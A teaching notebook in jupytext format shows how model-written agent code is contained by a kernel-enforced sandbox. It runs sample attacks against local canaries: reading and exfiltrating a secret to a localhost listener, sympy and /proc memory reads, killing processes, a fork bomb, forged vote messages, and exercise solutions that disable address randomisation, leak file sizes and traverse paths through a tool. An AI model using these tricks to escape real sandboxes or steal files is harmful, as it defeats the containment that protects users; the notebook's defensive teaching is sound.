# ---
# jupyter:
#   jupytext:
#     cell_metadata_filter: tags,-all
#     notebook_metadata_filter: kernelspec,jupytext
#     text_representation:
#       extension: .py
#       format_name: percent
#       format_version: '1.3'
#       jupytext_version: 1.19.6
#   kernelspec:
#     display_name: Python 3 (ipykernel)
#     language: python
#     name: python3
# ---

# %% [markdown]
# # 06 · Break the sandbox
#
# *What can a language model's code do to your computer, and what stops it?*
#
# **By the end you will have shown that** an ordinary script steals a secret when it is simply run, that the same script gets nothing in the
# sandbox, and that a dozen cleverer attacks each end in an error message that the model can read.
#
# *Needs* nothing but the set-up · *Makes* nothing · *Minutes* under 1 on two CPU cores, no GPU; about 20 to read.

# %%
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import warnings
from pathlib import Path

import pandas as pd

from agentlib import Sandbox
from agentlib import config, figures, pages, sag

# %% tags=["parameters"]
preset = "smoke"
overrides = {}

# %%
cfg = config.load(preset, **overrides)
pages.show_settings(cfg, "sandbox_seconds", "sandbox_memory_mb", "samples", "vote")

# %% [markdown]
# ## 1 · An attack that succeeds (4 minutes)
#
# An agent's code is written by a model and run thousands of times, and nobody reads it first. A model can write harmful code by accident,
# or because a page that it found told it to. The simplest way to run this code is the way you run your own: start Python.
#
# To see what that allows, this page sets up targets. A temporary folder holds a secret file. A listener on this machine plays the
# attacker's server. A process that only waits, the bystander, is attacked in section 4. Nothing else is touched. `reach` is the text that
# tells each attack where its targets are.

# %%
folder = Path(tempfile.mkdtemp(prefix="agentlib-canaries-"))
secret, planted = folder / "secret.txt", folder / "planted.txt"
secret.write_text(secrets.token_hex(8))
door = socket.create_server(("127.0.0.1", 0))
door.setblocking(False)
bystander = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
reach = f"SECRET, PLANTED, PORT = {str(secret)!r}, {str(planted)!r}, {door.getsockname()[1]}\n"
reach += f"PID, PARENT = {bystander.pid}, {os.getpid()}\n"

# %% [markdown]
# The script uses no trick. It opens a file, writes a file, and opens a connection, each with one ordinary call.

# %%
theft = """
import socket

def read():
    global loot
    loot = open(SECRET).read()
    return f"the secret is {loot}"

def write():
    open(PLANTED, "w").write("I was here")
    return "planted a file"

def send():
    with socket.create_connection(("127.0.0.1", PORT), 1) as line:
        line.sendall(loot.encode())
    return "sent what I found"

loot = "nothing"
for deed in (read, write, send):
    try:
        print(deed())
    except OSError as error:
        print(f"{type(error).__name__}: {error.strerror}")
"""

# %% [markdown]
# What the script *says* is no proof. So these functions check what it did: is the secret in its output, is there a new file, what did the
# listener receive?

# %%
def received():
    try:
        visitor, _ = door.accept()
    except BlockingIOError:
        return ""
    with visitor:
        return visitor.recv(100).decode()

def damage(printed):
    done = [secret.read_text() in printed, planted.exists(), secret.read_text() in received()]
    planted.unlink(missing_ok=True)
    names = ["read the secret file", "write a file", "send the secret to a server"]
    return {name: "succeeded" if one else "refused" for name, one in zip(names, done, strict=True)}

# %% [markdown]
# First without a sandbox, as a plain subprocess:

# %%
naive = subprocess.run([sys.executable, "-c", reach + theft], capture_output=True, text=True, timeout=60)
without = damage(naive.stdout)
print(naive.stdout)

# %% [markdown]
# Now the same text goes through `Sandbox`. **Predict first:** which of the three still succeed, and does the script crash at its first refusal?

# %%
box = Sandbox(tools={"web_search": lambda query: f"you asked for {query!r}"}, seconds=1.5, memory_mb=256)
with box.session() as session:
    outcome = session.run(reach + theft)
table = pd.DataFrame({"without the wall": without, "with it": damage(outcome.stdout)})
assert (table["without the wall"] == "succeeded").all() and (table["with it"] == "refused").all()
table.assign(**{"what the code was told": outcome.stdout.splitlines()}).rename_axis(columns="attack")

# %% [markdown]
# The script ran to its end in both cases. Nothing recognised it as harmful, and nothing searched it for the word `socket`. The kernel, the
# core of the operating system, refused each act when it was tried, and Python reported the refusal as an ordinary error. This page calls the
# rules that the kernel enforces on a process its *wall*.
#
# ## 2 · Why a process, not a filter (2 minutes)
#
# There are two common ways to contain code. One reads the code and rejects what looks dangerous. It must anticipate every route, and
# `sympy`, `numpy` or a decorator offer new ones. The other runs the code as it is, in a process whose rights the *kernel* restricts.
# This project uses the second. However clever an attack is, the wall does not read it: it refuses the act.
#
# In the picture, a *fork* is a copy of a running process. A supervisor starts one fork for each candidate action of a step. The cell below
# the picture prints what the wall covers on this machine. "No environment" means that the code does not see this program's environment
# variables, where keys and passwords often are. "A second wall around the first" means that each candidate has its own wall, and an outer one
# encloses the supervisor and all candidates.
#
# ![Behind the kernel's wall are a supervisor and a waiting state; each candidate is a fork of that state; tools stay outside.](pictures/sandbox_walls.svg)

# %%
print("backend:", box.protection.backend)
print("covers:", *box.protection.covers, sep="\n  ")
print("does not cover:", *box.protection.lacks, sep="\n  ")

# %% [markdown]
# `strict=True` refuses to start with less than full containment. The wall needs one of two features of Linux: a recent Landlock (rules on
# files and network for one process) or user namespaces (the basis of containers). Without both, only limits on time and memory are left,
# and a warning says so: run model-written code there only in a virtual machine that you can afford to lose. On macOS use a Linux container,
# or choose the backend `sandbox-exec` yourself, which covers less and warns about it. On Windows use WSL 2.
#
# From here on, each attack gets a fresh session. The tables show how it ended: the kind of failure, the last line of the message that the
# model would read, and the seconds it took. The limits are tighter than the preset's (1.5 seconds and 256 MB), so that the page is quick.

# %%
pd.options.display.max_colwidth = 80

def attack(code):
    with box.session() as session:
        outcome = session.run(reach + code)
    if not outcome.failure:
        return {"kind": "-", "message": f"ran: {outcome.stdout[:40]!r}", "seconds": round(outcome.seconds, 3)}
    message = outcome.failure.message.replace(f"{folder}/", "").splitlines()[-1]
    return {"kind": outcome.failure.kind, "message": message, "seconds": round(outcome.seconds, 3)}

def attacks(**codes):
    return pd.DataFrame({name.replace("_", " "): attack(code) for name, code in codes.items()}).T

# %% [markdown]
# ## 3 · Reading and writing (2 minutes)
#
# Here are five attacks on data outside the sandbox: four on the secret file, one on this notebook's memory. The second is a classic:
# `sympify` evaluates its argument, so a filter that allows sympy allows everything. **Predict:** does any of them get a different answer
# than `open` does?

# %%
reading = attacks(
    open_a_file="print(open(SECRET).read())",
    ask_sympy="import sympy\nprint(sympy.sympify(f\"__import__('pathlib').Path({SECRET!r}).read_text()\"))",
    map_it_with_numpy="import numpy as np\nprint(bytes(np.memmap(SECRET, dtype='u1', mode='r')))",
    read_the_parents_memory="print(open(f'/proc/{PARENT}/mem', 'rb').read(8))",
    overwrite_it="open(SECRET, 'w').write('gone')",
)
assert (reading["kind"] != "-").all() and len(secret.read_text()) == 16
reading

# %% [markdown]
# ## 4 · The network and other processes (2 minutes)
#
# An agent may search, but only through the tool we gave it: the call goes back to this process as plain data, and this process decides.
# **Predict:** one of the four attacks below fails with a different error than the others. Which?

# %%
outward = attacks(
    knock_at_a_port="import socket\nsocket.create_connection(('127.0.0.1', PORT), 1)",
    look_up_a_name="import socket\nprint(socket.gethostbyname('example.com'))",
    kill_a_bystander="import os\nos.kill(PID, 9)",
    kill_this_notebook="import os\nos.kill(PARENT, 9)",
)
assert (outward["kind"] != "-").all() and bystander.poll() is None
outward

# %% [markdown]
# The name is "not known" because the resolver could not open a socket to ask. The message that the model reads is misleading here: it says
# that the name does not exist. The kind of failure, `forbidden`, is correct.
#
# ## 5 · Using everything up (3 minutes)
#
# The most common "attack" is an accident: a small model writes a loop that never ends, or a power too large to compute. A thread that hangs
# in C code cannot be stopped; a process can. The fourth attack is a *fork bomb*, a program that keeps starting copies of itself.
# **Predict:** which of these five does the time limit stop, and which a different limit?

# %%
greedy = attacks(
    loop="while True: pass",
    power="x = 10**10**8",
    memory="x = []\nwhile True: x.append(bytearray(1 << 20))",
    fork_bomb="import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
    output="while True: print('x' * 1000)",
)
assert set(greedy["kind"]) <= {"timeout", "memory", "killed", "execution"}
assert greedy["seconds"].max() < 15  # a bomb of a thousand processes takes seconds to clear
greedy

# %% [markdown]
# In the committed run the memory limit stopped one of the five early, and the time limit stopped the other four.
#
# ## 6 · Cheating in the vote (3 minutes)
#
# Self-consistent action generation (SAG, notebook 04) runs several candidate actions of one step and keeps one whose outcome most of them
# share. So a candidate must not be able to answer for another. Here one candidate writes a forged answer into every open channel that it can
# find, while two others compute. **Predict:** for how many of the three candidates does the forger answer, and which one wins?

# %%
forger = """
import json, os, struct
forged = json.dumps({"value": "", "failure": None, "is_final": True, "answer": "forged"}).encode()
for number in range(1, 40):
    for channel in range(3, 64):
        try:
            os.write(channel, struct.pack(">IIc", len(forged), number, b"D") + forged)
        except OSError:
            pass
"""
with box.session() as session:
    outcomes = session.run_candidates([forger, "final_answer(6 * 7)", "x = 6\nfinal_answer(x * 7)"])
    best = sag.choose(outcomes, cfg.vote)

# %%
assert outcomes[best].answer == 42 and [o.answer for o in outcomes[1:]] == [42, 42]
votes = pd.DataFrame([{"answer": o.answer, "failure": o.failure.kind if o.failure else "-"} for o in outcomes])
votes.assign(kept=[k == best for k in range(3)]).set_axis(["forger", "second", "third"])

# %% [markdown]
# A forger can lie only about its own outcome. Each candidate is a fork with its own channel, and a supervisor, which runs no model code,
# records which channel a message came from.
#
# ## 7 · What it costs (2 minutes)
#
# The kernel makes a fork without copying the memory of the process, so it is cheap. **Predict:** how many milliseconds does a trivial action
# take, and how much longer do sixteen candidates take than one?

# %%
with box.session() as session:
    session.run("x = 1")
    took = {}
    for count in (1, 2, 4, 8, 16):
        times = []
        for _ in range(20):
            started = time.perf_counter()
            session.run_candidates(["x + 1"] * count)
            times.append(1000 * (time.perf_counter() - started))
        took[count] = sorted(times)[len(times) // 2]

# %%
figures.line_chart({"candidates of one step": took}, "candidates", "milliseconds (median of 20)", guide="as many steps of one candidate",
                   alt=f"A line of milliseconds against candidates: {took[1]:.1f} for one, {took[16]:.1f} for sixteen.")  # fmt: skip

# %%
pages.show_values({f"candidates: {n}": f"{ms:.1f} ms, {ms / n:.1f} each" for n, ms in took.items()})

# %% [markdown]
# A candidate costs about ten milliseconds on two cores. Candidates that share a step cost a little less than the same number of steps with
# one candidate each (dotted line). For comparison, the small student of notebook 09 takes about two seconds to write one action on a CPU.
# These milliseconds are for actions that do almost nothing; the time of the code's own computation is added.
#
# ## 8 · Is the machine unharmed? (1 minute)
#
# An attack may have reached the listener, killed the bystander or left a new file. This cell checks all three, and whether a new session
# still works:

# %%
with box.session() as session:
    factors = session.run("import sympy\nsympy.factor(sympy.Symbol('x')**2 - 1)").value
knocked, left = received(), sorted(path.name for path in folder.iterdir())
assert not knocked and bystander.poll() is None and left == ["secret.txt"]
pages.show_values({
    "the next session factors x² - 1": factors, "the listener received": knocked or "nothing",
    "the bystander": "lives" if bystander.poll() is None else "is dead", "files in the folder": left,
})  # fmt: skip

# %% [markdown]
# ## What we saw
#
# 1. As an ordinary process, a script without any trick read the secret, wrote a file and sent the secret away; in the sandbox the same
#    script got three refusals.
# 2. The wall refuses acts, not words: `open`, `sympy`, `numpy` and the parent's memory all ended in "Permission denied".
# 3. Endless loops, full memory and a fork bomb ended as named failures, the forged vote counted once and lost, and the next session worked.
#
# `tests/test_attacks.py` has a longer list of attacks. If you find one that succeeds, it is a bug: report it.
#
# ## Exercises (20 minutes)
#
# Each has a check under it that tells you when it is solved; unsolved ones raise no error. One way to solve them is in this notebook;
# `make workshop` writes copies without the solutions.
#
# ### 1 · Escape `backend="limits"`
#
# This backend is the last resort, for machines where no outer wall can be built. On a kernel before Linux 6.12, code can then read and write
# your files. On a newer one, each candidate still has its own wall. On this machine:

# %%
with warnings.catch_warnings(record=True) as said:
    warnings.simplefilter("always")
    limited = Sandbox(backend="limits", seconds=1.5, memory_mb=256)
assert "NOT FULLY ISOLATED" in str(said[0].message)
print("covers:", *limited.protection.covers, sep="\n  ")
print("does not cover:", *limited.protection.lacks, sep="\n  ")

# %% [markdown]
# Write code that is refused in `box` and runs under `limited`. If `limited` refuses to read the secret, too, look at *system calls*, the
# requests that a program makes to the kernel: which of them does a program that only computes never need? `ctypes.CDLL(None)` gives access to
# all of them.

# %% tags=["exercise"]
escape = "print(open(SECRET).read())"
# solution
escape = """
import ctypes
personality, FIXED_ADDRESSES, ASK = ctypes.CDLL(None).personality, 0x0040000, 0xFFFFFFFF
personality(FIXED_ADDRESSES)  # switches off the random memory addresses of what is started from here
now = personality(ASK)
if now == -1 or not now & FIXED_ADDRESSES:
    raise PermissionError("the call was refused")
print("random memory addresses are off")
"""

# %%
def run_in(sandbox, code):
    with sandbox.session() as session:
        return session.run(reach + code)

inside_limits, inside_box = run_in(limited, escape), run_in(box, escape)
told = [one.failure.message.splitlines()[-1] if one.failure else one.stdout.strip() for one in (inside_limits, inside_box)]
print(f"limits: {told[0]}\nbox: {told[1]}")
pages.check_exercise("Escape limits", lambda: inside_box.failure and not inside_limits.failure,
                     "Compare the two lists of what is covered.")  # fmt: skip

# %% [markdown]
# ### 2 · See through the wall
#
# `TARGET` is the path of a file that the code may not open. Write code that prints how many bytes the file has, in the full sandbox. Why does
# the wall let that through, and for whom would it matter?

# %% tags=["exercise"]
spy = "print(len(open(TARGET).read()))"
# solution
spy = "import os\nprint(os.stat(TARGET).st_size)"

# %%
def guess(size):
    target = folder / "target.txt"
    target.write_text("x" * size)
    printed = run_in(box, f"TARGET = {str(target)!r}\n{spy}").stdout
    target.unlink()
    return printed.strip()

sizes = [secrets.randbelow(10_000) for _ in range(3)]
pages.check_exercise("See through the wall", lambda: [guess(size) for size in sizes] == [str(size) for size in sizes],
                     "Read the list of what is not covered.")  # fmt: skip

# %% [markdown]
# ### 3 · A door in the wall
#
# A tool runs *outside*, with your rights. This one reads notes from a folder. First write `leak`, code that prints the secret from inside the
# sandbox by calling `read_note`. Then write `safe_note`, which returns every note and nothing else.

# %% tags=["exercise"]
notes = folder / "notes"
notes.mkdir(exist_ok=True)
(notes / "today.txt").write_text("buy milk")
def read_note(name):
    return (notes / name).read_text()
leak = "print(read_note('today.txt'))"
safe_note = read_note
# solution
leak = "print(read_note('../secret.txt'))"
def safe_note(name):
    path = (notes / name).resolve()
    if path.parent != notes.resolve():
        raise PermissionError(f"{name!r} is not a note")
    return path.read_text()

# %%
def printed(tool, *codes):
    with Sandbox(tools={"read_note": tool}, seconds=1.5) as one:
        return "".join(run_in(one, code).stdout for code in codes)

def is_safe(tool):
    alias = notes / "alias.txt"
    alias.is_symlink() or alias.symlink_to(secret)
    calls = [leak, "print(read_note('alias.txt'))", "print(read_note(SECRET))", "print(read_note('today.txt'))"]
    return printed(tool, *calls).strip() == "buy milk"

pages.check_exercise("A door in the wall", lambda: secret.read_text() in printed(read_note, leak) and is_safe(safe_note),
                     "Where does a name lead, once all its parts are followed?")  # fmt: skip

# %%
box.close()
limited.close()
bystander.kill()
bystander.wait()
door.close()
shutil.rmtree(folder)
